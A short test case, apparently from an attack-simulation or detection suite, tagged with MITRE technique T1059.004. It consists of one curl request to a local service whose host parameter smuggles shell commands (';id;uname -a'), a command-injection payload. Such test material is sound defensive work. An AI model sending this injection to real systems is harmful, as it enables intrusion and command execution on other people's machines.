# workload: python
# technique: T1059.004
# finds: /usr/bin/id
curl -s "http://127.0.0.1:18081/ping?host=x;id;uname+-a"
